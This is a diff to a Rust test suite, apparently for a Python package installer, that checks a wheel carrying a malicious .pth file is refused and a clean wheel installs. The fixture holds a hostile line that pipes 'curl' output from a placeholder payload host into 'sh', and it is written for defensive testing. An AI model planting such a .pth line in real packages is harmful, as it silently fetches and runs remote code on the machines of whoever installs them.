@@ -85,7 +85,7 @@ fn wheel_whose_pth_downloads_and_runs_code_is_refused() {
     };
     let setup = setup(&python);
     let pth = "import os; os.system(\"curl -s https://payload.example.invalid/stage2 | sh\")\n";
-    let index = serve(common::wheel(NAME, Some(pth)));
+    let index = serve(common::wheel(NAME, &[("harmless_gate_fixture.pth", pth)]));
     install(&setup, &index)
         .code(1)
         .stderr(contains(
@@ -109,7 +109,7 @@ fn clean_wheel_installs() {
         return;
     };
     let setup = setup(&python);
-    let index = serve(common::wheel(NAME, None));
+    let index = serve(common::wheel(NAME, &[]));
     install(&setup, &index).success();
     assert!(installed(&setup));
 }
